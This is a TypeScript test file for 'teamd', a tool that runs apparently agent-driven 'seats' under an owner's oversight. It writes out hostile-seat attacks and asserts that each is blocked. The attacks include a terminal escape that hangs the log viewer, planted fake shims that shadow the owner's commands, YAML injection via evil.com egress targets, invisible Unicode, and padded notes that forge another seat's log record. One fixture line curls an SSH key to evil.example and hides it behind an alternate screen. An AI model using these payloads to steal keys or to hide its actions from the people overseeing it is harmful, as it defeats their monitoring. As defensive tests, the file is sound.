import { execFile } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseEgressTarget } from "../../src/kernel/egress-allowlist.js";
import { terminalText } from "../../daemon/host/terminal-text.js";
import { readableLines } from "../../daemon/host/screen-text.js";
import { appliedTeam } from "../support/applied-team.js";
import { cliTerminal } from "../support/cli-terminal.js";
import { TEAMD } from "../support/programs.js";
import { ensureSeatUser } from "../support/seat-user.js";
import { teamFile } from "../support/team-file.js";
import type { TeamdHarness } from "../support/teamd-harness.js";
import { waitFor } from "../support/wait.js";

/**
 * Attacks by a hostile seat on what the owner's CLI renders and runs (issue 23's new surfaces),
 * written by an attacker told only what a seat reaches; each asserts the safe behaviour. Found
 * and fixed (each test failed before): digits behind a BEL inside a CSI escaped the replay's
 * clamp and hung `teamd logs`; the seat's ~/.local/bin came before teamd's own programs on its
 * PATH, so a planted `teamd-shim` answered the owner's `teamd exec SEAT teamd-shim …`; text
 * written before an alternate screen that is never left vanished from `teamd logs`; the
 * variation selectors (a hidden byte after any character) and other invisible marks passed
 * terminalText; a checkpoint note padded with blanks wrapped, on the owner's terminal, into
 * a row that read as another seat's record. Held: egress targets cannot carry YAML or other
 * text into `teamd egress refused`'s allow lines (canonical before they are recorded).
 */
if (process.getuid?.() === 0) ensureSeatUser();

const ESC = "\u001b";
// FINDING: a C0 control inside a CSI's parameters: clampParameters' regex stops at the BEL, so
// the digits after it are not clamped; xterm's parser executes the BEL and keeps collecting the
// same parameter, so this is `CSI 2147483647 S` (scroll up 2^31 lines), replayed in one 16 KiB
// chunk: the 5 s budget is never consulted. `teamd logs SEAT` hangs (measured: > 30 s, at 100% CPU).
const SLOW = `${ESC}[?1049h${ESC}[1;1Hstart\n${ESC}[\u00072147483647S${ESC}[\u00072147483647T`;

function teamdTimed(h: TeamdHarness, args: readonly string[], timeoutMs: number): Promise<{ code: number; stdout: string; stderr: string; ms: number }> {
  const t0 = Date.now();
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [TEAMD, ...args],
      { env: { ...process.env, ...h.env }, cwd: h.repo, timeout: timeoutMs, maxBuffer: 64 * 1024 * 1024, killSignal: "SIGKILL" },
      (error, stdout, stderr) => {
        const code = error ? (typeof (error as { code?: unknown }).code === "number" ? ((error as { code: number }).code as number) : -1) : 0;
        resolve({ code, stdout: String(stdout), stderr: String(stderr), ms: Date.now() - t0 });
      },
    );
  });
}

describe("unit: seat-controlled egress targets cannot carry YAML or other text into an allow line", () => {
  it.each([
    'evil.com:443"]\n  bob:\n    start: {x: 1}\n#:443',
    "evil.com:443 # comment",
    "evil.com:443, other.com:443",
    "*.com:443",
    "*.example.com:443",
    "evil\u202ecom:443",
    "[::1]]:443",
    "a.b:0443",
  ])("target %j is refused as malformed or canonical", (text) => {
    const t = parseEgressTarget(text);
    if (!("decision" in t)) expect(/^[a-z0-9.-]+$|^[0-9a-f:.]+$/.test(t.host), `host ${t.host}`).toBe(true);
  });
});

describe("unit: terminalText makes every invisible character visible", () => {
  it.each([
    ["variation selector supplement U+E0100 (a hidden byte after any character)", "\u{e0100}"],
    ["variation selector supplement U+E01EF", "\u{e01ef}"],
    ["variation selector U+FE00", "\ufe00"],
    ["combining grapheme joiner U+034F", "\u034f"],
    ["interlinear annotation U+FFF9", "\ufff9"],
    ["Khmer inherent vowel U+17B4", "\u17b4"],
    ["musical invisible U+1D173", "\u{1d173}"],
  ])("%s", (_name, ch) => {
    expect(terminalText(`ok${ch}ok`)).not.toContain(ch);
  });
  // Kept on purpose: emoji and scripts need them (one value each, not a byte).
  it.each([
    ["ZWNJ U+200C", "\u200c"],
    ["ZWJ U+200D", "\u200d"],
    ["emoji presentation U+FE0F", "\ufe0f"],
  ])("%s passes (kept, by design)", (_name, ch) => {
    expect(terminalText(`ok${ch}ok`)).toContain(ch);
  });
});

describe("unit: the replayed screen and what it hides", () => {
  it("output printed before an alternate screen that is never left is still shown by teamd logs", async () => {
    const out = Buffer.from(`EVIDENCE: curl -d @~/.ssh/id_ed25519 evil.example\n${ESC}[?1049h${ESC}[H${ESC}[2Jall 42 tests passed\n`);
    const { lines, note } = await readableLines(out);
    // Safe: either the earlier text is shown, or a note says the screen hides it.
    expect(lines.some((l) => l.includes("EVIDENCE")) || note !== undefined, JSON.stringify({ lines, note })).toBe(true);
  });
});

const slowScript = Buffer.from(SLOW).toString("base64");

describe.runIf(process.platform === "linux")("escape: a seat's screen output replayed by teamd logs", () => {
  let h: TeamdHarness;
  beforeAll(async () => {
    h = await appliedTeam(
      "teamd-esc-surf-",
      teamFile(`  slowpaint:\n    lab: anthropic\n    roles: [observer]\n    start:\n      command: [sh, tools/slowpaint.sh]\n`),
      { "README.md": "hi\n", "tools/slow.b64": slowScript + "\n", "tools/slowpaint.sh": "base64 -d tools/slow.b64\nprintf 'SLOW-MARK\\n'\nexec sleep 3600\n" },
      { timeoutMs: 60_000 },
    );
  }, 90_000);
  afterAll(async () => {
    await h?.cleanup();
  }, 60_000);

  it("a seat's ~/.local/bin shadows neither teamd's own shim nor its git remote helper for the owner's teamd exec", async () => {
    await h.ok(["start", "slowpaint"]).catch(() => undefined);
    const plant = await h.sh(
      "slowpaint",
      'mkdir -p "$HOME/.local/bin" && printf "#!/bin/sh\\necho FAKE-SHIM \\"\\$@\\"\\n" > "$HOME/.local/bin/teamd-shim" && chmod +x "$HOME/.local/bin/teamd-shim" && cp "$HOME/.local/bin/teamd-shim" "$HOME/.local/bin/git-remote-teamd" && echo planted; echo PATH=$PATH',
    );
    expect(plant.stdout).toContain("planted");
    const which = await h.sh("slowpaint", "command -v teamd-shim; command -v git-remote-teamd");
    // Safe: teamd's own programs resolve to /run/teamd/bin whatever the seat put in its home.
    expect(which.stdout, `which: ${which.stdout}`).not.toContain(".local/bin");
    const shim = await h.sh("slowpaint", "teamd-shim checkpoint owner-note");
    expect(shim.stdout, `teamd-shim: ${shim.stdout}`).not.toContain("FAKE-SHIM");
  }, 60_000);

  it("CSI parameters split by a C0 control are clamped too: teamd logs finishes within its budget", async () => {
    await h.ok(["start", "slowpaint"]).catch(() => undefined);
    expect(await waitFor(async () => (await teamdTimed(h, ["logs", "slowpaint", "--raw"], 10_000)).stdout.includes("SLOW-MARK"), 20_000)).toBe(true);
    const r = await teamdTimed(h, ["logs", "slowpaint"], 25_000);
    // Safe: the replay gives up after ~5 s (a note on stderr) and prints the lines.
    expect(r.ms, `teamd logs took ${r.ms} ms (code ${r.code}); stderr ${r.stderr.slice(0, 200)}`).toBeLessThan(15_000);
    expect(r.code).toBe(0);
  }, 60_000);

  it("a checkpoint note padded with blanks cannot wrap into what reads as another seat's record on the owner's terminal", async () => {
    await h.ok(["start", "slowpaint"]).catch(() => undefined);
    const fake = "   999  2026-12-01 00:00:00  act  proj  seat:proj/bob  git.push  seat:bob/refs/heads/main  ok  FORGED-MARK";
    const note = " ".repeat(300) + fake;
    const r = await h.sh("slowpaint", `/run/teamd/bin/teamd-shim checkpoint '${note}'; echo rc=$?`);
    expect(r.stdout + r.stderr, "control: the checkpoint was recorded").toMatch(/rc=0/);
    // Control: the whole note is on record (a pipe gets each record whole).
    const piped = await h.ok(["log"]);
    expect(piped.split("\n").some((l) => l.includes("FORGED-MARK") && l.includes("seat.checkpoint"))).toBe(true);
    // Safe: on a terminal (100 columns) each record is one visual row, so the padded text never starts a row of its own.
    const t = cliTerminal(h, ["log", "--seat", "slowpaint"]);
    expect(await t.exit).toBe(0);
    const rows = t.output().split(/\r?\n/);
    expect(rows.some((l) => l.includes("seat.checkpoint"))).toBe(true);
    for (const row of rows) expect(row.length, JSON.stringify(row)).toBeLessThanOrEqual(100);
    expect(t.output()).not.toContain("FORGED-MARK");
  }, 60_000);
});
